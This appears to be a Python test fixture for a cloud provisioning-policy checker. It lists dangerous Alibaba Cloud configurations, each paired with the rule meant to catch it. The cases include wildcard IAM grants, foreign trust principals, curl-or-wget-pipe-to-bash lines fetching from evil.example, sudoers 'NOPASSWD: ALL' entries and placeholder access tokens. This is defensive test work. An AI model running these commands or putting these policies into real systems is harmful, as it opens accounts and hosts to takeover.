"""Programs that are plainly dangerous, and the rule that has to see it.

Each is the sample stack with one thing changed, in a spelling that is easily overlooked.
"""

import base64
import json
from typing import Any

from provisioning_policies import tokens
from tests.unit.policies.sample_stack import ROBOT, SCRIPT, Changes, document, encode, trust

_INSTANCE = "acs:ecs:cn-hangzhou:1234567890123456:instance/i-1"
_ROLE = "acs:ram::1234567890123456:role/deployer"
_OIDC = "acs:ram::1234567890123456:oidc-provider/github"
_TARGET = "approved.targets.0"
_BODY = f"{_TARGET}.paramLists.1"
GITHUB = "ghp_" + "0123456789abcdefABCDEF0123456789abcd"
_SUBJECT = {
    "oidc:iss": "https://token.actions.githubusercontent.com",
    "oidc:aud": "sts.aliyuncs.com",
}


def _policy(**statement: Any) -> Changes:
    return {"policy.policyDocument": document(statement)}


def _on_kind(condition: Any, action: str = "ecs:InvokeCommand") -> Changes:
    return _policy(
        Action=action,
        Resource="acs:ecs:*:*:instance/*",
        Condition=condition,
    )


def _raw(text: str) -> Changes:
    return {"policy.policyDocument": text}


def _trusted(principal: Any, **more: Any) -> Changes:
    return {"role.assumeRolePolicyDocument": trust(principal, **more)}


def _github(condition: Any) -> Changes:
    return _trusted({"Federated": [_OIDC]}, Condition=condition)


def _pattern(source: Any) -> Changes:
    return {"completed.filterPattern": json.dumps({"source": source})}


def _template(value: str) -> Changes:
    return {
        _BODY: {"resourceKey": "Body", "form": "TEMPLATE", "value": value, "template": "${x}"},
        # Not allowed to run commands, so that only the template is wrong.
        "attachment": None,
        "policy": None,
    }


def _url(url: str) -> Changes:
    return {f"{_TARGET}.paramLists.0.value": url}


def _script(line: str) -> Changes:
    return {"command.commandContent": encode(SCRIPT.replace("useradd", f"{line}\nuseradd"))}


def _variable(name: str, value: str) -> Changes:
    return {f"run.environmentVariables.{name}": value}


def _other(token: str, **properties: Any) -> Changes:
    return {"other": (token, properties)}


_ENCODED = base64.b64encode(f"token {GITHUB}".encode()).decode()

BYPASSES: dict[str, tuple[str, Changes]] = {
    # Wildcards that are not a star, and stars that are not alone
    "action ecs:?nvokeCommand": (
        "ram-actions-named",
        _policy(Action="ecs:?nvokeCommand", Resource=_INSTANCE),
    ),
    "action ram:?assRole": ("ram-pass-role-narrow", _policy(Action="ram:?assRole", Resource=_ROLE)),
    "resource ?*": ("ram-document-readable", _policy(Action="ecs:StopInstance", Resource="?*")),
    "resource instance/?-*": (
        "ram-resources-named",
        _policy(Action="ecs:StopInstance", Resource="acs:ecs:*:*:instance/?-*"),
    ),
    "resource of any service": (
        "ram-resources-named",
        _policy(Action="ecs:StopInstance", Resource="acs:e?s:*:*:instance/i-1"),
    ),
    "resource */*": (
        "ram-resources-named",
        _policy(Action="ecs:StopInstance", Resource="acs:ecs:*:*:*/*"),
    ),
    "NotResource": ("ram-not-action", _policy(Action="ecs:StopInstance", NotResource=_INSTANCE)),
    "NotResource and PassRole": (
        "ram-pass-role-narrow",
        _policy(
            Action="ram:PassRole",
            NotResource=_ROLE,
            Condition={"StringEquals": {"acs:Service": "fc.aliyuncs.com"}},
        ),
    ),
    # Reading that is as good as having
    "every secret": (
        "ram-resources-named",
        _policy(Action="kms:GetSecretValue", Resource="acs:kms:*:*:secret/*"),
    ),
    "every object": (
        "ram-resources-named",
        _policy(Action="oss:GetObject", Resource="acs:oss:*:*:*/*"),
    ),
    "every function's variables": (
        "ram-resources-named",
        _policy(Action="fc:ListFunctions", Resource="acs:fc:*:*:functions/*"),
    ),
    "every function": (
        "ram-resources-named",
        _policy(Action="fc:GetFunction", Resource="acs:fc:*:*:functions/*"),
    ),
    "every log": (
        "ram-resources-named",
        _policy(Action="log:GetLogStoreLogs", Resource="acs:log:*:*:project/*"),
    ),
    # Conditions that are always true
    "condition StringLike *": (
        "ram-resources-named",
        _on_kind({"StringLike": {"acs:ResourceTag/a": "*"}}),
    ),
    "condition StringLike ?*": (
        "ram-resources-named",
        _on_kind({"StringLike": {"acs:ResourceTag/a": "?*"}}),
    ),
    "condition StringNotEquals": (
        "ram-resources-named",
        _on_kind({"StringNotEquals": {"acs:ResourceTag/a": "nothing"}}),
    ),
    "condition from anywhere": (
        "ram-resources-named",
        _on_kind({"IpAddress": {"acs:SourceIp": "0.0.0.0/0"}}),
    ),
    "condition after 2000": (
        "ram-resources-named",
        _on_kind({"DateGreaterThan": {"acs:CurrentTime": "2000-01-01T00:00:00Z"}}),
    ),
    "condition over HTTPS": (
        "ram-resources-named",
        _on_kind({"Bool": {"acs:SecureTransport": "true"}}),
    ),
    "condition from everywhere else": (
        "ram-resources-named",
        _on_kind({"NotIpAddress": {"acs:SourceIp": "192.0.2.1"}}),
    ),
    "condition that is empty": ("ram-resources-named", _on_kind({})),
    "PassRole for services but one": (
        "ram-pass-role-narrow",
        _policy(
            Action="ram:PassRole",
            Resource=_ROLE,
            Condition={"StringNotEquals": {"acs:Service": "ecs.aliyuncs.com"}},
        ),
    ),
    "PassRole for every service": (
        "ram-pass-role-narrow",
        _policy(
            Action="ram:PassRole",
            Resource=_ROLE,
            Condition={"StringLike": {"acs:Service": "*"}},
        ),
    ),
    # Permissions from which the others follow
    "AttachPolicyToRole": (
        "ram-hands-nothing-on",
        _policy(
            Action="ram:AttachPolicyToRole",
            Resource=["acs:ram:*:system:policy/AdministratorAccess", _ROLE],
        ),
    ),
    "CreateAccessKey": (
        "ram-hands-nothing-on",
        _policy(Action="RAM:CREATEACCESSKEY", Resource="acs:ram:*:1234567890123456:user/admin"),
    ),
    "AssumeRole of any role": (
        "ram-pass-role-narrow",
        _policy(Action="sts:AssumeRole", Resource="acs:ram::1234567890123456:role/*"),
    ),
    "a policy from elsewhere": (
        "ram-attached-policy-seen",
        {"attachment.policyName": "written-by-somebody"},
    ),
    "system policy in lower case": (
        "ram-system-policy-narrow",
        {"attachment.policyType": "system", "attachment.policyName": "AdministratorAccess"},
    ),
    "system policy that reads all": (
        "ram-system-policy-narrow",
        {"attachment.policyType": "System", "attachment.policyName": "AliyunKMSSecretAdminAccess"},
    ),
    # Documents and properties that are read by somebody else only
    "document that is not JSON": ("ram-document-readable", _raw("{'Statement': []}")),
    "document without a list": (
        "ram-document-readable",
        _raw('{"Version": "1", "Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}}'),
    ),
    "document with a key twice": (
        "ram-document-readable",
        _raw(
            '{"Version": "1", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}], '
            '"Statement": [{"Effect": "Deny", "Action": "a:B", "Resource": "*"}]}'
        ),
    ),
    "effect in lower case": (
        "ram-document-readable",
        _raw(
            '{"Version": "1", "Statement": [{"Effect": "allow", "Action": "*", "Resource": "*"}]}'
        ),
    ),
    "element in lower case": (
        "ram-document-readable",
        _raw(
            '{"Version": "1", "Statement": [{"Effect": "Allow", "action": "*", "resource": "*"}]}'
        ),
    ),
    "no document": ("ram-document-readable", {"policy.policyDocument": None}),
    "the older property beside": (
        "property-current",
        {"policy.document": document({"Action": "*", "Resource": "*"})},
    ),
    "statements as a property": (
        "property-current",
        {"policy.statements": [{"effect": "Allow", "actions": ["*"], "resources": ["*"]}]},
    ),
    "role for services by a property": ("property-current", {"role.ramUsers": ["acs:ram::1:root"]}),
    # Trust
    "a foreign account": (
        "ram-trust-narrow",
        _trusted({"RAM": ["acs:ram::9999999999999999:root"]}),
    ),
    "a foreign role": ("ram-trust-narrow", _trusted({"RAM": ["acs:ram::9999999999999999:role/x"]})),
    "a service of another account": (
        "ram-trust-narrow",
        _trusted({"Service": ["9999999999999999@fc.aliyuncs.com"]}),
    ),
    "a service that is none": (
        "ram-trust-narrow",
        _trusted({"Service": ["fc.aliyuncs.com.evil.example"]}),
    ),
    "account ?": ("ram-trust-narrow", _trusted({"RAM": ["acs:ram::????????????????:root"]})),
    "OIDC without a subject": ("ram-trust-narrow", _github({"StringEquals": _SUBJECT})),
    "OIDC with the subject *": (
        "ram-trust-narrow",
        _github({"StringEquals": _SUBJECT, "StringLike": {"oidc:sub": "*"}}),
    ),
    "OIDC with any branch": (
        "ram-trust-narrow",
        _github({"StringEquals": _SUBJECT, "StringLike": {"oidc:sub": "repo:me/it:*"}}),
    ),
    "OIDC with every subject but one": (
        "ram-trust-narrow",
        _github({"StringEquals": _SUBJECT, "StringNotEquals": {"oidc:sub": "repo:me/it:x"}}),
    ),
    "OIDC of another issuer": (
        "ram-trust-narrow",
        _github({"StringEquals": {"oidc:sub": "repo:me/it:environment:prod"}}),
    ),
    "trust with NotPrincipal": (
        "ram-document-readable",
        {
            "role.assumeRolePolicyDocument": document(
                {"Action": "sts:AssumeRole", "NotPrincipal": {}}
            )
        },
    ),
    "trust to do anything": (
        "ram-trust-narrow",
        {
            "role.assumeRolePolicyDocument": document(
                {"Action": "*", "Principal": {"Service": ["fc.aliyuncs.com"]}}
            )
        },
    ),
    # Plain HTTP under another name
    "http://127.evil.example": ("rule-target-https", _url("http://127.evil.example/new")),
    "http with an @": ("rule-target-https", _url("http://127.0.0.1@evil.example/new")),
    "http and a backslash": (
        "rule-target-https",
        _url("http://evil.example\\@127.0.0.1/new"),
    ),
    "http behind a space": ("rule-target-https", _url(" HTTP://evil.example/new")),
    "http to localhost.evil": ("rule-target-https", _url("http://localhost.evil.example/")),
    "ftp": ("rule-target-https", _url("ftp://evil.example/new")),
    "http in a list of addresses": (
        "function-calls-https",
        _variable("APIS", "https://a.example,http://b.example"),
    ),
    "http within JSON": ("function-calls-https", _variable("APIS", '{"hr": "http://b.example"}')),
    # Patterns that match everything
    'source prefix ""': ("rule-pattern-readable", _pattern([{"prefix": ""}])),
    "source prefix of one letter": ("rule-pattern-narrow", _pattern([{"prefix": "a"}])),
    "source prefix acs.": ("rule-pattern-narrow", _pattern([{"prefix": "acs."}])),
    "source contains a dot": ("rule-pattern-narrow", _pattern([{"contains": "."}])),
    "source exists": ("rule-pattern-narrow", _pattern([{"exists": True}])),
    "source anything but nothing": ("rule-pattern-narrow", _pattern([{"anything-but": []}])),
    "source anything but a prefix": (
        "rule-pattern-narrow",
        _pattern([{"anything-but": {"prefix": "zzzz"}}]),
    ),
    "source with two operators": (
        "rule-pattern-readable",
        _pattern([{"prefix": "sample.", "suffix": ""}]),
    ),
    "source that is a text": ("rule-pattern-readable", _pattern("sample.results")),
    "source under another operator": ("rule-pattern-readable", _pattern([{"wildcard": "*"}])),
    "source twice": (
        "rule-pattern-readable",
        {"completed.filterPattern": '{"source": [{"exists": true}], "source": ["sample.results"]}'},
    ),
    # Templates
    "template of $..body": ("rule-template-untrusted", _template('{"x": "$..body"}')),
    "template of $['data']": (
        "rule-template-untrusted",
        _template("{\"x\": \"$['data']['body']\"}"),
    ),
    "template of $": ("rule-template-untrusted", _template('{"x": "$"}')),
    "template of $.*": ("rule-template-untrusted", _template('{"x": "$.*"}')),
    "template of the subject": ("rule-template-untrusted", _template('{"x": "$.subject"}')),
    "template within a list": ("rule-template-untrusted", _template('{"x": ["$.data.a"]}')),
    "template that is not JSON": ("rule-template-untrusted", _template("{x: $.data.a}")),
    "form in lower case": ("rule-template-untrusted", {f"{_TARGET}.paramLists.0.form": "template"}),
    # Doors of functions under other names
    "trigger without a word": ("function-trigger-authenticated", {"trigger.triggerConfig": "{}"}),
    "trigger ANONYMOUS": (
        "function-trigger-authenticated",
        {"trigger.triggerConfig": '{"authType": "ANONYMOUS"}'},
    ),
    "trigger that is not JSON": (
        "function-trigger-authenticated",
        {"trigger.triggerConfig": "authType: anonymous"},
    ),
    "trigger of type HTTP": (
        "function-trigger-authenticated",
        {"trigger.triggerType": "HTTP", "trigger.triggerConfig": '{"authType": "anonymous"}'},
    ),
    "trigger of 2.0": (
        "function-trigger-authenticated",
        _other(tokens.TRIGGER_2, type="http", config='{"authType": "anonymous"}'),
    ),
    "custom domain": (
        "function-domain-authenticated",
        _other(tokens.CUSTOM_DOMAIN, protocol="HTTPS", customDomainName="a.example"),
    ),
    "custom domain, anonymous": (
        "function-domain-authenticated",
        _other(tokens.CUSTOM_DOMAIN, protocol="HTTPS", authConfig={"authType": "anonymous"}),
    ),
    "custom domain over HTTP": (
        "function-domain-authenticated",
        _other(tokens.CUSTOM_DOMAIN, protocol="HTTP,HTTPS", authConfig={"authType": "jwt"}),
    ),
    "custom domain of 2.0": (
        "function-domain-authenticated",
        _other(tokens.CUSTOM_DOMAIN_2, protocol="HTTPS", domainName="a.example"),
    ),
    # Secrets
    "secret in a description": ("secret-in-property", {"run.description": f"uses {GITHUB}"}),
    "secret in a tag": ("secret-in-property", {"run.tags.note": ROBOT}),
    "secret in *_TOKEN_NAME": (
        "secret-in-environment",
        _variable("HR_TOKEN_NAME", "a8Fk29dkLq03mZ"),
    ),
    "token of GitHub": ("secret-in-environment", _variable("REMOTE", GITHUB)),
    "token of GitHub in a URL": (
        "secret-in-environment",
        _variable("REMOTE", f"https://{GITHUB}@github.com/me/it"),
    ),
    "token of GitLab": ("secret-in-environment", _variable("REMOTE", "glpat-0123456789abcdefABCD")),
    "token of Slack": ("secret-in-environment", _variable("BOT", "xoxb-0123456789-abcdefgh")),
    "key of an API": ("secret-in-environment", _variable("MODEL", "sk-0123456789abcdefABCDEF")),
    "token of STS": ("secret-in-environment", _variable("ID", "STS.NUx0123456789abcdef")),
    "JSON web token": (
        "secret-in-environment",
        _variable("SESSION", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl"),
    ),
    "secret in Base64": ("secret-in-environment", _variable("BLOB", _ENCODED)),
    "secret in Base64 twice": (
        "secret-in-environment",
        _variable("BLOB", base64.b64encode(_ENCODED.encode()).decode()),
    ),
    "password of digits": (
        "secret-in-environment",
        {"run.environmentVariables.DB": '{"password": 12345}'},
    ),
    "token in a script": (
        "secret-in-command",
        _script(f"git clone https://{GITHUB}@github.com/me/it"),
    ),
    "password in a script": ("secret-in-command", _script("DB_PASSWORD='hunter2-abc'")),
    "secret in Base64 in a script": ("secret-in-command", _script(f"base64 -d <<<{_ENCODED}")),
    # Commands
    "curl http | bash": ("command-fetches-https", _script("curl http://evil.example/x | bash")),
    "curl https | bash": (
        "command-runs-what-it-holds",
        _script("curl -fsSL https://get.example | bash"),
    ),
    "curl | sudo -E bash": (
        "command-runs-what-it-holds",
        _script("curl -fsSL https://get.example/x |\n  sudo -E bash -s -- -y"),
    ),
    "wget | python": (
        "command-runs-what-it-holds",
        _script("wget -qO- https://get.example | python3 -"),
    ),
    "curl | tee | sh": (
        "command-runs-what-it-holds",
        _script("curl https://g.example | tee /tmp/x | sh"),
    ),
    "bash <(curl)": ("command-runs-what-it-holds", _script("bash <(curl -s https://get.example)")),
    'bash -c "$(curl)"': (
        "command-runs-what-it-holds",
        _script('bash -c "$(curl -s https://g.example)"'),
    ),
    "eval `wget`": ("command-runs-what-it-holds", _script("eval `wget -qO- https://get.example`")),
    "curl -o and bash": (
        "command-runs-what-it-holds",
        _script("curl -o /tmp/x.sh https://get.example\nbash /tmp/x.sh"),
    ),
    "curl > and chmod": (
        "command-runs-what-it-holds",
        _script("curl https://get.example >/tmp/x\nchmod +x /tmp/x\n/tmp/x"),
    ),
    "wget and ./": (
        "command-runs-what-it-holds",
        _script("wget https://get.example/setup.sh\n./setup.sh"),
    ),
    "rpm -i https": ("command-runs-what-it-holds", _script("rpm -i https://get.example/x.rpm")),
    "set +e later": ("command-stops-on-error", _script("set +e")),
    "set -e in a function": (
        "command-stops-on-error",
        {"command.commandContent": encode("# as root\nf() {\n set -e\n}\nuseradd x\n")},
    ),
    "parameter in single quotes": (
        "command-parameters-quoted",
        {"command.commandContent": encode(SCRIPT.replace("exit\n\n", "x='{{user}}'\nexit\n\n"))},
    ),
    "pattern that every value meets": (
        "command-parameters-validated",
        {"command.commandContent": encode(SCRIPT.replace("^[a-z][a-z0-9]*$", ".*"))},
    ),
    "case that takes every value": (
        "command-parameters-validated",
        {
            "command.commandContent": encode(
                SCRIPT.replace(
                    "[[ $user =~ ^[a-z][a-z0-9]*$ ]] || exit 2", "case $user in *) true ;; esac"
                )
            )
        },
    ),
    "a script of Python": (
        "command-readable",
        {
            "command.commandContent": encode(
                "#!/usr/bin/python3\nimport os\nos.system('{{user}}')\n"
            )
        },
    ),
    "a script of PowerShell": ("command-readable", {"command.type": "RunPowerShellScript"}),
    # What the catalogue gives
    "sudo everything": ("command-sudo-narrow", _script("R='sudo ALL=(ALL) NOPASSWD: ALL'")),
    "sudo everything, without a user": (
        "command-sudo-narrow",
        _script("R='sudo ALL=NOPASSWD: ALL'"),
    ),
    "sudo a wildcard": (
        "command-sudo-narrow",
        _script("R='sudo ALL=(root) NOPASSWD: /usr/bin/systemctl restart *'"),
    ),
    "sudo an editor": (
        "command-sudo-narrow",
        _script("R='sudo ALL=(root) NOPASSWD: /usr/bin/vim /etc/hosts'"),
    ),
    "sudo a pager": (
        "command-sudo-narrow",
        _script("R='sudo ALL=(root) NOPASSWD: /usr/bin/less /var/log/x'"),
    ),
    "sudo all but one": (
        "command-sudo-narrow",
        _script("R='sudo ALL=(root) NOPASSWD: ALL, !/bin/su'"),
    ),
    "sudo as #0": ("command-sudo-narrow", _script("R='sudo ALL=(#0) NOPASSWD: /bin/bash'")),
    "sudo a folder": ("command-sudo-narrow", _script("R='sudo ALL=(root) NOPASSWD: /opt/bin/'")),
    "group docker": ("command-groups-narrow", _script("R='x\ngroups deploy docker\n'")),
    "group by usermod": ("command-groups-narrow", _script("usermod -aG wheel,users x")),
    "group by gpasswd": ("command-groups-narrow", _script("gpasswd -a x disk")),
    "a key that two share": (
        "command-keys-personal",
        _script(
            "R='key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a\n"
            "key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA b'"
        ),
    ),
    "source ecs.provisioning": (
        "event-source-own-name",
        {"source.eventSourceName": "ecs.provisioning"},
    ),
    "source acs.*": ("event-source-own-name", {"source.eventSourceName": "ACS.ecs"}),
    # What no rule knows
    "a machine with a script": (
        "resource-type-known",
        _other("alicloud:ecs/instance:Instance", userData="IyEvYmluL3No"),
    ),
    "a function of 2.0": ("resource-type-known", _other("alicloud:fc/function:Function", name="x")),
    "an access key": (
        "resource-type-known",
        _other("alicloud:ram/accessKey:AccessKey", userName="x"),
    ),
    "a run without a command": (
        "resource-type-known",
        _other("alicloud:ecs/ecsInvocation:EcsInvocation", commandId="c-1"),
    ),
    "a command of this machine": (
        "resource-type-known",
        _other("command:local:Command", create="id"),
    ),
    "a source of the older form": (
        "resource-type-known",
        _other("alicloud:eventbridge/eventSource:EventSource", eventSourceName="x"),
    ),
    "a webhook that takes everything": (
        "event-source-methods",
        {"source.sourceHttpEventParameters.methods": None},
    ),
    "a runtime that nobody knows": ("function-runtime", {"run.runtime": "python3.8"}),
}
